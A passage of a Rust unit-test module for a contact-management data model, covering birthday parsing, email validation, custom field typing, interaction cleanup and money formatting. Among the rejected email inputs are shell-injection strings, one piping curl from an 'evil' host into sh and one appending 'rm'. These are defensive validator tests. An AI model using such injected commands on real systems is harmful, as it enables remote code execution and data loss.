        assert!("--02-29".parse::<Birthday>().is_ok());
        let from_json = Birthday {
            year: Some(-5),
            month: 1,
            day: 1,
        };
        assert!(from_json.check().is_err());
        let draft = ContactDraft {
            name: "Ana".into(),
            birthday: Some(Birthday {
                year: Some(1990),
                month: 2,
                day: 31,
            }),
            ..ContactDraft::default()
        };
        assert!(draft.into_contact(&Actor::new("t")).is_err());
    }

    #[test]
    fn emails_are_what_mail_systems_accept() {
        for good in [
            "ana@acme.example",
            "ana.horvat+crm@mail.acme.example",
            "o'brien@example.ie",
            "jürgen@müller.example",
        ] {
            assert!(check_email(good).is_ok(), "{good}");
        }
        for bad in [
            "$(curl${IFS}evil|sh)@evil.example",
            "ana@example",
            "ana..h@example.com",
            ".ana@example.com",
            "ana@-acme.example",
            "ana@acme..example",
            "a b@example.com",
            "ana@acme.example;rm",
            "<ana@acme.example>",
        ] {
            assert!(check_email(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn birthdays_with_and_without_year() {
        assert_eq!(
            "1990-05-17".parse::<Birthday>().unwrap().to_string(),
            "1990-05-17"
        );
        assert_eq!(
            "--02-29".parse::<Birthday>().unwrap().to_string(),
            "--02-29"
        );
        assert!("1990-02-30".parse::<Birthday>().is_err());
    }

    #[test]
    fn custom_values_are_typed() {
        assert_eq!(CustomValue::guess("42.5"), CustomValue::Number(42.5));
        assert_eq!(CustomValue::guess("yes"), CustomValue::Bool(true));
        assert!(matches!(
            CustomValue::guess("2026-01-02"),
            CustomValue::Date(_)
        ));
        assert_eq!(CustomValue::guess("gold"), CustomValue::Text("gold".into()));
    }

    #[test]
    fn interactions_need_a_summary_and_sane_satisfaction() {
        let mut i = Interaction {
            id: 0,
            contact: 1,
            at: At::now(),
            channel: Channel::Call,
            direction: Direction::Inbound,
            summary: String::new(),
            body: "\nRang about invoice 42\nmore".into(),
            outcome: None,
            satisfaction: Some(6),
            agent: "sam".into(),
            deal: None,
            campaign: String::new(),
        };
        let err = i.clean().unwrap_err();
        assert_eq!(i.summary, "Rang about invoice 42");
        assert_eq!(err.0[0].field, "satisfaction");
    }

    #[test]
    fn money_displays_minor_units() {
        assert_eq!(
            Money {
                minor: 12_345,
                currency: "EUR".into()
            }
            .to_string(),
            "123.45 EUR"
        );
        assert_eq!(
            Money {
                minor: -5,
                currency: "USD".into()
            }
            .to_string(),
            "-0.05 USD"
        );
    }
}
